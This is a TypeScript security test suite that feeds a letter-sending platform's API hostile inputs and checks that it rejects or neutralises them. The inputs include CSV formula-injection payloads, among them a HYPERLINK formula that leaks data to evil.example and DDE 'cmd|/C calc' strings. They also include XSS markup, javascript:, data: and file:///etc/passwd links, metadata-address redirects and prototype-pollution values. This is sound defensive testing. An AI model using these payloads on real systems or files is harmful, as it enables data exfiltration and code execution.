import fc from 'fast-check';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { syntheticNins } from '../../../functions/domain/lists/nin-generator.js';
import { request, startTestPlatform, type ApiClient, type ApiResponse, type TestPlatform } from '../../setup/platform.js';
import { waitFor } from '../dispatch/flow.js';

/**
 * Hostile content through the HTTP API: recipient-list CSV (binary garbage, huge fields, mixed
 * delimiters, formula injection), letter text (1 MB bodies, markup, control characters) as the
 * citizen's inbox shows it after a real test send, links the check must flag (IDN homographs,
 * `javascript:`, `data:`, credentials, redirects to metadata and private addresses — on local
 * servers on 127.0.0.1 only), and formula injection in the form-responses CSV export.
 */
let p: TestPlatform;
let targets: Server;
let base = '';
beforeAll(async () => {
  p = await startTestPlatform();
  targets = createServer((req, res) => {
    const path = new URL(req.url ?? '/', 'http://127.0.0.1').pathname;
    const redirect = (to: string) => {
      res.writeHead(302, { location: to });
      res.end();
    };
    if (path === '/ok') {
      res.writeHead(200, { 'content-type': 'text/plain' });
      return res.end(req.method === 'HEAD' ? undefined : 'ok');
    }
    if (path === '/to-metadata') return redirect('http://169.254.169.254/latest/meta-data/iam/');
    if (path === '/to-private') return redirect('http://10.0.0.1/admin');
    if (path === '/to-credentials') return redirect(`http://user:pass@127.0.0.1:${(targets.address() as AddressInfo).port}/ok`);
    if (path === '/to-javascript') return redirect('javascript:alert(1)');
    res.writeHead(404);
    res.end();
  });
  await new Promise<void>((resolve) => targets.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(targets.address() as AddressInfo).port}`;
});
afterAll(async () => {
  await p?.stop();
  await new Promise((resolve) => targets?.close(resolve));
});

const researcher = { sub: 'ola', role: 'researcher', org: 'uio' } as const;
let r: ApiClient;
let projectId = '';

const counts = async () => {
  const [letters, lists, tasks] = await Promise.all([r.get(`/projects/${projectId}/letters`), r.get(`/projects/${projectId}/recipient-lists`), r.get(`/projects/${projectId}/form-tasks`)]);
  return { letters: letters.body.items.length, lists: lists.body.items.length, formTasks: tasks.body.items.length };
};

const expectError = (res: ApiResponse, status?: number) => {
  expect(res.status, res.text.slice(0, 300)).toBeGreaterThanOrEqual(400);
  expect(res.status, res.text.slice(0, 300)).toBeLessThan(500);
  if (status) expect(res.status, res.text.slice(0, 300)).toBe(status);
  expect(res.body?.error?.code, res.text.slice(0, 300)).toMatch(/^[A-Z][A-Z0-9_]+$/);
};

/** Posts bytes as text/csv exactly as given (the test client would JSON-encode a Buffer). */
const postCsv = async (bytes: Buffer | string): Promise<ApiResponse> =>
  request(`${p.url}/projects/${projectId}/recipient-lists`, {
    method: 'POST',
    headers: { authorization: `Bearer ${await p.token(researcher)}`, 'content-type': 'text/csv' },
    body: bytes,
  });

const ELEVEN_DIGITS = /(?<!\d)\d{11}(?!\d)/g;

beforeAll(async () => {
  r = p.as(researcher);
  const res = await r.post('/projects', { title: 'Fiendtlig innhold', organization: 'uio', allowedLinkDomains: ['example.org', '127.0.0.1'] });
  expect(res.status, res.text).toBe(201);
  projectId = res.body.projectId;
});

describe('hostile recipient lists', () => {
  /** A successful upload's arithmetic holds, and no ID of the input comes back. */
  const expectAccounted = (res: ApiResponse, input: string) => {
    expect(res.body.rows, res.text).toBe(res.body.accepted + res.body.rejected.length + res.body.duplicatesInList);
    for (const m of input.matchAll(ELEVEN_DIGITS)) expect(res.text).not.toContain(m[0]);
  };

  it('answers random bytes and random text as CSV with a 201 that accounts for every row, or a 4xx with a code and nothing stored', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.oneof(
          fc.uint8Array({ minLength: 1, maxLength: 2_000 }).map((a) => Buffer.from(a)),
          fc.string({ unit: 'binary', maxLength: 500 }).map((s) => `nin,name\n${s}`),
          fc
            .array(fc.array(fc.oneof(fc.constantFrom(...syntheticNins(5, 33_000)), fc.string({ maxLength: 30 })), { maxLength: 6 }), { maxLength: 20 })
            .map((rows) => ['nin,name,language', ...rows.map((cells) => cells.join(fc.sample(fc.constantFrom(',', ';', '\t', '|'), 1)[0]))].join('\n')),
        ),
        async (body) => {
          const before = (await counts()).lists;
          const res = await postCsv(body);
          expect(res.status, res.text.slice(0, 300)).not.toBe(500);
          if (res.status === 201) expectAccounted(res, body.toString());
          else {
            expectError(res);
            expect((await counts()).lists).toBe(before);
          }
        },
      ),
      { numRuns: 60 },
    );
  });

  it('refuses a binary file (a spreadsheet, not CSV) with a code and stores nothing', async () => {
    const before = await counts();
    // The start of an .xlsx (zip) file.
    const res = await postCsv(Buffer.from([0x50, 0x4b, 0x03, 0x04, 0x14, 0x00, 0x06, 0x00, 0x08, 0x00, 0xff, 0xfe, 0x00, 0x00, 0x9c, 0x80]));
    expectError(res);
    expect(await counts()).toEqual(before);
  });

  it('reports huge fields and formula cells in placeholder columns as row errors, by row number only', async () => {
    const nins = syntheticNins(8, 33_100);
    const rows = [
      `${nins[0]},Ola,nb`,
      `${nins[1]},${'x'.repeat(600)},nb`,
      `${nins[2]},"=HYPERLINK(""https://evil.example/?d=""&A1,""Klikk"")",nb`,
      `${nins[3]},+cmd|' /C calc'!A0,nb`,
      `${nins[4]},-cmd|' /C calc'!A0,nb`,
      `${nins[5]},@SUM(1+1)*cmd|' /C calc'!A0,nb`,
      // Leading whitespace is trimmed by the parser, so the formula beneath it is what is judged.
      `${nins[6]},"\t =1+1",nb`,
      `${nins[7]},"Kari\u0007",nb`,
    ];
    const csv = `nin,name,language\n${rows.join('\n')}\n`;
    const res = await postCsv(csv);
    expect(res.status, res.text.slice(0, 300)).toBe(201);
    expectAccounted(res, csv);
    expect(res.body.accepted).toBe(1);
    expect(res.body.rejected.map((x: { row: number; code: string }) => [x.row, x.code])).toEqual([
      [2, 'FIELD_TOO_LONG'],
      [3, 'UNSAFE_FIELD_VALUE'],
      [4, 'UNSAFE_FIELD_VALUE'],
      [5, 'UNSAFE_FIELD_VALUE'],
      [6, 'UNSAFE_FIELD_VALUE'],
      [7, 'UNSAFE_FIELD_VALUE'],
      [8, 'UNSAFE_FIELD_VALUE'],
    ]);
    expect(res.text).not.toContain('HYPERLINK');
    expect(res.text).not.toContain('cmd|');
  });

  it('refuses a record above 64 KB as malformed CSV, storing nothing', async () => {
    const before = await counts();
    const [nin] = syntheticNins(1, 33_150) as [string];
    const res = await postCsv(`nin,name\n${nin},Ola\n${nin.replace(/.$/, '0')},${'x'.repeat(100_000)}\n`);
    expectError(res, 400);
    expect(res.text).not.toContain(nin);
    expect(await counts()).toEqual(before);
  });

  it('handles mixed delimiters and a huge single field without a 500', async () => {
    const nins = syntheticNins(3, 33_200);
    const mixed = `nin;name\n${nins[0]};Ola\n${nins[1]},Kari\n${nins[2]}\tPer\n`;
    const a = await postCsv(mixed);
    if (a.status === 201) expectAccounted(a, mixed);
    else expectError(a);
    const before = await counts();
    const huge = `nin,name\n${nins[0]},"${'y'.repeat(9 * 1024 * 1024)}"\n`;
    const b = await postCsv(huge);
    expect(b.status, b.text.slice(0, 300)).not.toBe(500);
    if (b.status === 201) {
      expectAccounted(b, huge);
      expect(b.body.accepted).toBe(0);
    } else {
      expectError(b);
      expect(await counts()).toEqual(before);
    }
  });

  it('answers invalid rows in a JSON upload with row errors, never echoing the ID', async () => {
    const [good] = syntheticNins(1, 33_300) as [string];
    const bad = `${good.slice(0, 10)}${(Number(good[10]) + 1) % 10}`;
    const res = await r.post(`/projects/${projectId}/recipient-lists`, {
      recipients: [{ nin: good }, { nin: bad }, { nin: 12345678901 }, { nin: { $gt: '' } }, { nin: good, fields: { name: { __proto__: { x: 1 } } } }, { nin: null }, { nin: '__proto__' }],
    });
    expect(res.status, res.text).toBe(201);
    expectAccounted(res, `${good} ${bad}`);
    expect(res.text).not.toContain(bad);
  });
});

describe('hostile letter text', () => {
  const [tester] = syntheticNins(1, 33_400) as [string];
  const inboxOf = async (nin: string) => (await p.as({ sub: nin, role: 'citizen' }).get('/citizen/inbox')).body.items as { subject: string; body: string; deliveryId: string }[];

  it('refuses a 1 MB body on create and on edit, and writes nothing', async () => {
    const letter = await r.post(`/projects/${projectId}/letters`, { title: 'Kort', kind: 'letter', content: { nb: { subject: 'Hei', body: 'Kort tekst.' } } });
    expect(letter.status).toBe(201);
    const before = await counts();
    const big = 'ø'.repeat(1024 * 1024);
    const created = await r.post(`/projects/${projectId}/letters`, { title: 'Stor', kind: 'letter', content: { nb: { subject: 'Hei', body: big } } });
    expectError(created, 400);
    expect(created.text.length).toBeLessThan(5_000); // the refusal does not echo the megabyte back
    const edited = await r.put(`/projects/${projectId}/letters/${letter.body.letterId}`, { content: { nb: { subject: 'Hei', body: big } } });
    expectError(edited, 400);
    expect(await counts()).toEqual(before);
    const after = await r.get(`/projects/${projectId}/letters/${letter.body.letterId}`);
    expect(after.body.latestVersion).toBe(1);
    expect(after.body.content.nb.body).toBe('Kort tekst.');
  });

  it('delivers markup as plain text: the inbox returns it verbatim, unescaped and uninterpreted', async () => {
    const markup = `<script>alert('x')</script> <img src=x onerror="alert(1)"> <b>fet</b> &lt;ikke&gt; &amp; <a href="javascript:alert(2)">klikk</a> <!-- kommentar --> ]]> \${7*7} %s %n`;
    const subject = '<i>Emne</i> & "sitat"';
    const letter = await r.post(`/projects/${projectId}/letters`, { title: 'Markup', kind: 'letter', content: { nb: { subject, body: markup } } });
    expect(letter.status, letter.text).toBe(201);
    const sent = await r.post(`/projects/${projectId}/letters/${letter.body.letterId}/test-send`, { nins: [tester] });
    expect(sent.status, sent.text).toBeLessThan(300);
    const items = await waitFor(
      () => inboxOf(tester),
      (i) => i.some((x) => x.subject === subject),
      60_000,
    );
    const item = items.find((x) => x.subject === subject)!;
    expect(item.body.startsWith(markup), item.body).toBe(true);
    expect(item.body).not.toContain('&lt;script');
    const raw = await p.as({ sub: tester, role: 'citizen' }).get('/citizen/inbox');
    expect(raw.headers.get('content-type')).toContain('application/json');
  });

  it('delivers control characters as inert text: line breaks normalised, C0 controls and bidi overrides dropped, the visible text kept', async () => {
    const body = 'Linje 1\r\nLinje 2\tfane \u0000nul \u0007bjelle \u001b[31mANSI\u001b[0m \u202eRTL-overstyring\u202c \u200bnullbredde \ud83d\ude00';
    const subject = 'Kontrolltegn';
    const letter = await r.post(`/projects/${projectId}/letters`, { title: 'Kontroll', kind: 'letter', content: { nb: { subject, body } } });
    expect(letter.status, letter.text).toBe(201);
    const sent = await r.post(`/projects/${projectId}/letters/${letter.body.letterId}/test-send`, { nins: [tester] });
    expect(sent.status, sent.text).toBeLessThan(300);
    const items = await waitFor(
      () => inboxOf(tester),
      (i) => i.some((x) => x.subject === subject),
      60_000,
    );
    const delivered = items.find((x) => x.subject === subject)!.body;
    expect(delivered.startsWith('Linje 1\nLinje 2\tfane nul bjelle [31mANSI[0m RTL-overstyring \u200bnullbredde \ud83d\ude00'), JSON.stringify(delivered)).toBe(true);
    // Nothing a terminal, a log viewer or a bidi-aware renderer would interpret.
    expect(delivered).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f\u202a-\u202e\u2066-\u2069]/);
  });

  it('refuses a subject with a line break, and a test send to a real (non-synthetic) ID, writing nothing', async () => {
    const before = await counts();
    expectError(await r.post(`/projects/${projectId}/letters`, { title: 'X', kind: 'letter', content: { nb: { subject: 'Hei\r\nBcc: alle', body: 'b' } } }), 400);
    expect(await counts()).toEqual(before);
    const letterId = (await r.get(`/projects/${projectId}/letters`)).body.items[0].letterId as string;
    const real = realFormatNin('150385123');
    const refused = await r.post(`/projects/${projectId}/letters/${letterId}/test-send`, { nins: [tester, real] });
    expectError(refused, 400);
    expect(refused.text).not.toContain(real);
    expect(JSON.stringify(refused.body.error.details)).toContain('NOT_A_TEST_PERSON');
  });
});

describe('hostile links: the letter check flags every one', () => {
  const checkOf = async (body: string) => {
    const letter = await r.post(`/projects/${projectId}/letters`, { title: 'Lenke', kind: 'letter', content: { nb: { subject: 'Lenke', body } } });
    expect(letter.status, letter.text).toBe(201);
    const check = await r.post(`/projects/${projectId}/letters/${letter.body.letterId}/check`);
    expect(check.status, check.text).toBe(200);
    return check.body as { ok: boolean; findings: { code: string; severity: string; link?: string; reason?: string }[] };
  };
  const errors = (c: Awaited<ReturnType<typeof checkOf>>) => c.findings.filter((f) => f.severity === 'error').map((f) => f.code);

  it('passes a plain allowed link (so the refusals below are about the link, not the setup)', async () => {
    const c = await checkOf(`Les mer: ${base}/ok`);
    expect(errors(c)).toEqual([]);
    expect(c.ok).toBe(true);
  });

  const cases: [string, () => string, string[]][] = [
    ['an IDN homograph (Cyrillic е in example.org)', () => 'https://\u0435xample.org/studie', ['LINK_DOMAIN_NOT_ALLOWED']],
    ['an IDN homograph in punycode', () => 'https://xn--xample-2of.org/studie', ['LINK_DOMAIN_NOT_ALLOWED']],
    ['credentials in the URL', () => 'https://user:pass@example.org/studie', ['MALFORMED_LINK']],
    ['an allowed name as user info before another host', () => 'https://example.org@evil.example/studie', ['MALFORMED_LINK', 'LINK_DOMAIN_NOT_ALLOWED']],
    ['a javascript: link', () => 'javascript:alert(document.cookie)', ['LINK_NOT_HTTPS']],
    ['a javascript: link in mixed case with an entity', () => 'JaVaScRiPt:alert(1)', ['LINK_NOT_HTTPS']],
    ['a data: link', () => 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==', ['LINK_NOT_HTTPS']],
    ['a vbscript: link', () => 'vbscript:msgbox(1)', ['LINK_NOT_HTTPS']],
    ['a file: link', () => 'file:///etc/passwd', ['LINK_NOT_HTTPS']],
    ['the metadata address directly', () => 'https://169.254.169.254/latest/meta-data/', ['LINK_DOMAIN_NOT_ALLOWED']],
    ['a redirect to the metadata address', () => `${base}/to-metadata`, ['BROKEN_LINK']],
    ['a redirect to a private 10.x address', () => `${base}/to-private`, ['BROKEN_LINK']],
    ['a redirect that adds credentials', () => `${base}/to-credentials`, ['BROKEN_LINK']],
    ['a redirect to javascript:', () => `${base}/to-javascript`, ['BROKEN_LINK']],
  ];
  for (const [name, link, codes] of cases) {
    it(`flags ${name}`, async () => {
      const c = await checkOf(`Les mer her: ${link()} takk.`);
      expect(c.ok, JSON.stringify(c.findings)).toBe(false);
      for (const code of codes) expect(errors(c), JSON.stringify(c.findings)).toContain(code);
    });
  }

  it('never passes a random URL on a host outside the allowed domains, and never answers with a 500', async () => {
    await fc.assert(
      fc.asyncProperty(fc.webUrl({ validSchemes: ['https', 'http', 'ftp', 'javascript'], withQueryParameters: true, withFragments: true }), async (url) => {
        const host = (() => {
          try {
            return new URL(url).hostname;
          } catch {
            return '';
          }
        })();
        fc.pre(host !== '127.0.0.1' && host !== 'example.org' && !host.endsWith('.example.org'));
        const c = await checkOf(`Se ${url} .`);
        expect(c.ok, `${url}: ${JSON.stringify(c.findings)}`).toBe(false);
      }),
      { numRuns: 40 },
    );
  });

  it('refuses a javascript: or data: URL as an external form', async () => {
    const before = await counts();
    for (const url of ['javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', 'file:///etc/passwd']) {
      expectError(await r.post(`/projects/${projectId}/form-tasks`, { title: 'Ekstern', form: { type: 'external', url } }), 400);
    }
    expect(await counts()).toEqual(before);
  });
});

describe('formula injection in the form-responses CSV export', () => {
  it('neutralises every formula cell a citizen can write, and names no citizen', async () => {
    const questions = [{ id: 'svar', text: { nb: 'Hva mener du?' }, type: 'text' }];
    const ft = await r.post(`/projects/${projectId}/form-tasks`, { title: 'Skjema', form: { type: 'internal', questions } });
    expect(ft.status, ft.text).toBe(201);
    const formTaskId = ft.body.formTaskId as string;
    const letter = await r.post(`/projects/${projectId}/letters`, { title: 'Skjema', kind: 'form-task', formTaskId, content: { nb: { subject: 'Skjema', body: 'Svar på skjemaet.' } } });
    expect(letter.status, letter.text).toBe(201);
    const payloads = [
      '=HYPERLINK("https://evil.example/?leak="&A1,"Klikk her")',
      "+cmd|' /C calc'!A0",
      "-cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '\t=1+1',
      '\r=1+1',
      '-2+3',
      'vanlig "svar", med komma\nog linjeskift\n=ikke formel',
    ];
    const citizens = syntheticNins(payloads.length, 33_500);
    const sent = await r.post(`/projects/${projectId}/letters/${letter.body.letterId}/test-send`, { nins: citizens });
    expect(sent.status, sent.text).toBeLessThan(300);
    for (const [i, nin] of citizens.entries()) {
      const c = p.as({ sub: nin, role: 'citizen' });
      await waitFor(
        async () => (await c.get('/citizen/tasks')).body.items as { taskId: string }[],
        (items) => items.some((t) => t.taskId === formTaskId),
        60_000,
      );
      const answered = await c.post(`/citizen/tasks/${formTaskId}/answers`, { answers: { svar: payloads[i] } });
      expect(answered.status, answered.text).toBe(200);
    }
    const exported = await r.get(`/projects/${projectId}/form-tasks/${formTaskId}/responses?format=csv`);
    expect(exported.status).toBe(200);
    expect(exported.headers.get('content-type')).toContain('text/csv');
    const cells = parseCsv(exported.text);
    expect(cells.length).toBe(payloads.length + 1);
    const answersColumn = cells[0]!.indexOf('svar');
    const exportedAnswers = cells.slice(1).map((row) => row[answersColumn]!);
    // Every cell a spreadsheet would evaluate is prefixed with a quote; the text is otherwise intact.
    for (const cell of cells.flat()) expect(cell, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    // Answers are stored trimmed; what remains is exported intact, behind a quote if a spreadsheet would run it.
    const expected = payloads.map((a) => a.trim()).map((a) => (/^[=+\-@\t\r]/.test(a) ? `'${a}` : a));
    expect([...exportedAnswers].sort()).toEqual([...expected].sort());
    for (const nin of citizens) expect(exported.text).not.toContain(nin);
  });
});

/** A valid ordinary (not synthetic) national ID from nine digits: the two mod-11 check digits appended. */
const realFormatNin = (nine: string): string => {
  const digit = (ds: string, weights: number[]) => {
    const r = 11 - (weights.reduce((s, w, i) => s + w * Number(ds[i]), 0) % 11);
    return r === 11 ? 0 : r;
  };
  const k1 = digit(nine, [3, 7, 6, 1, 8, 9, 4, 5, 2]);
  const k2 = digit(`${nine}${k1}`, [5, 4, 3, 2, 7, 6, 5, 4, 3, 2]);
  if (k1 === 10 || k2 === 10) throw new Error(`no valid ID starts with ${nine}`);
  return `${nine}${k1}${k2}`;
};

/** RFC 4180 parser for the assertions (quoted fields, doubled quotes, CRLF inside quotes). */
const parseCsv = (text: string): string[][] => {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell !== '' || row.length) rows.push([...row, cell]);
  return rows;
};
